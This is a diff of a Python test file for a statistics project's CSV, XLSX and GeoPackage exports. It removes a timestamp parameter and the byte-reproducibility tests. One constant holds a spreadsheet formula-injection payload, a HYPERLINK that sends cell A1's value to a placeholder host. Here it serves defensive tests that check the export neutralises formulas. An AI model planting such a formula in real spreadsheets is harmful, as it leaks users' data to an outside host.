@@ -1,9 +1,8 @@
 """Exports: CSV in both dialects read back by pandas, XLSX without formula injection, GeoPackage
-with its source note; atomic writes; same inputs, same bytes."""
+with its source note; atomic writes (main's module, the cases test_compare_exports.py does not cover)."""
 
 from __future__ import annotations
 
-import datetime as dt
 import sqlite3
 import zipfile
 from pathlib import Path
@@ -29,7 +28,6 @@ from wandel.reports.exports import (
 
 NOTE = "Quelle: Statistische Ämter des Bundes und der Länder, dl-de/by-2-0\n© GeoBasis-DE / BKG"
 EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"Hettstedt")'
-WHEN = dt.datetime(2024, 3, 1, 12, 0)
 
 
 @pytest.fixture
@@ -82,7 +80,7 @@ def test_defuse_every_formula_prefix(text: str) -> None:
 
 
 def test_xlsx_writes_no_formula(tmp_path: Path, frame: pd.DataFrame) -> None:
-    path = write_xlsx({"Daten": frame}, tmp_path / "t.xlsx", source_note=NOTE, created=WHEN)
+    path = write_xlsx({"Daten": frame}, tmp_path / "t.xlsx", source_note=NOTE)
     with zipfile.ZipFile(path) as z:
         sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
         xml = "".join(z.read(n).decode() for n in sheets)
@@ -102,12 +100,6 @@ def test_xlsx_writes_no_formula(tmp_path: Path, frame: pd.DataFrame) -> None:
     assert wb.sheetnames == ["Daten", SOURCES_SHEET]
 
 
-def test_xlsx_same_inputs_same_bytes(tmp_path: Path, frame: pd.DataFrame) -> None:
-    a = write_xlsx({"Daten": frame}, tmp_path / "a.xlsx", source_note=NOTE, created=WHEN)
-    b = write_xlsx({"Daten": frame}, tmp_path / "b.xlsx", source_note=NOTE, created=WHEN)
-    assert a.read_bytes() == b.read_bytes()
-
-
 @pytest.mark.parametrize("name", ["", "a" * 32, "a/b", "x[1]", "quellen"])
 def test_xlsx_refuses_bad_sheet_names(tmp_path: Path, frame: pd.DataFrame, name: str) -> None:
     with pytest.raises(ExportError, match="sheet name"):
@@ -124,7 +116,7 @@ def test_empty_source_note_is_refused(tmp_path: Path, frame: pd.DataFrame) -> No
 
 def test_failed_write_leaves_the_old_file(tmp_path: Path, frame: pd.DataFrame) -> None:
     target = tmp_path / "t.xlsx"
-    write_xlsx({"Daten": frame}, target, source_note=NOTE, created=WHEN)
+    write_xlsx({"Daten": frame}, target, source_note=NOTE)
     before = target.read_bytes()
 
     class Boom:
@@ -133,7 +125,7 @@ def test_failed_write_leaves_the_old_file(tmp_path: Path, frame: pd.DataFrame) -
 
     bad = frame.assign(name=[Boom(), "x", "y"])
     with pytest.raises(RuntimeError, match="cannot render"):
-        write_xlsx({"Daten": bad}, target, source_note=NOTE, created=WHEN)
+        write_xlsx({"Daten": bad}, target, source_note=NOTE)
     assert target.read_bytes() == before
     assert [p.name for p in tmp_path.iterdir()] == ["t.xlsx"]
 
@@ -147,7 +139,7 @@ def _zones() -> gpd.GeoDataFrame:
 
 
 def test_gpkg_layer_and_sources(tmp_path: Path) -> None:
-    path = write_gpkg(_zones(), tmp_path / "z.gpkg", layer="zonen", source_note=NOTE, created=WHEN)
+    path = write_gpkg(_zones(), tmp_path / "z.gpkg", layer="zonen", source_note=NOTE)
     layers = {str(n) for n, _ in pyogrio.list_layers(path)}
     assert layers == {"zonen", SOURCES_TABLE}
     back = pyogrio.read_dataframe(path, layer="zonen")
@@ -157,17 +149,10 @@ def test_gpkg_layer_and_sources(tmp_path: Path) -> None:
     src = pyogrio.read_dataframe(path, layer=SOURCES_TABLE, read_geometry=False)
     assert src["quelle"].tolist() == NOTE.splitlines()
     with sqlite3.connect(path) as con:
-        desc, changed = con.execute(
-            "SELECT description, last_change FROM gpkg_contents WHERE table_name = 'zonen'"
+        (desc,) = con.execute(
+            "SELECT description FROM gpkg_contents WHERE table_name = 'zonen'"
         ).fetchone()
     assert desc == NOTE
-    assert changed.startswith("2024-03-01T12:00:00")
-
-
-def test_gpkg_same_inputs_same_bytes(tmp_path: Path) -> None:
-    a = write_gpkg(_zones(), tmp_path / "a.gpkg", layer="zonen", source_note=NOTE, created=WHEN)
-    b = write_gpkg(_zones(), tmp_path / "b.gpkg", layer="zonen", source_note=NOTE, created=WHEN)
-    assert a.read_bytes() == b.read_bytes()
 
 
 def test_gpkg_needs_geometry_and_crs(tmp_path: Path) -> None:
